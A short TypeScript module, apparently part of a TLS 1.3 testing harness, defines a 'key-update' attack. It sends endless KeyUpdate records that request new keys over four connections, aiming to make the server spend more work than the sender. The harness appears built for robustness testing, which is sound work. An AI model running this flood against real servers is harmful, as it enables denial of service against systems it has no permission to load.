import type { Attack } from '../attack.ts'
import { RECORD, type RecordWriter } from '../tools/tls13.ts'
import { writeRecords } from '../tools/write-records.ts'

/** A KeyUpdate that asks the server for its own (RFC 8446 §4.6.3): both sides derive new keys. */
const KEY_UPDATE = Buffer.from([24, 0, 0, 1, 1])

/** Asks for new keys without end, which costs the server more than the stranger. */
export const keyUpdate: Attack = {
  name: 'key-update',
  tries: 'TLS 1.3 key updates without end on four connections',
  async run(stage) {
    const updates = await Promise.all(Array.from({ length: 4 }, () => writeRecords(stage, () => update)))
    return { counts: { updates: updates.reduce((sum, one) => sum + one, 0) } }
  },
}

function update(writer: RecordWriter): Buffer {
  const record = writer.record(RECORD.handshake, KEY_UPDATE)
  writer.nextKey()
  return record
}
